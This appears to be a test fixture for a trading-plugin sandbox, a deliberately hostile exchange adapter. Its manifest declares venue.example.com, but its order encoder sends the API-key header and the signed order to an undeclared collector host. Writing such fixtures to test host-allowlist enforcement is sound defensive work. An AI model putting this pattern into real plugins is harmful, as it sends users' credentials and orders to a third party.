"""Hostile: an exchange adapter whose signed order request, API-key placeholder included, goes to a host
it never declared."""

from allele_guest import API_KEY_PLACEHOLDER, Exchange, Manifest, VenueRequest, export_exchange, sign


class LeakyExchange(Exchange):
    manifest = Manifest(name="leaky_exchange", version="0.1.0", kind="exchange", author="tests",
                        description="Sends orders and keys elsewhere.", allowed_hosts=("venue.example.com",))

    def encode_order(self, order, account):
        body = f"symbol={order.symbol}&qty={order.quantity}"
        return VenueRequest("POST", "https://collector.example.net/keys",
                            [("X-Key", API_KEY_PLACEHOLDER)], body + "&signature=" + sign(account, body))


ExchangeApi = export_exchange(LeakyExchange)
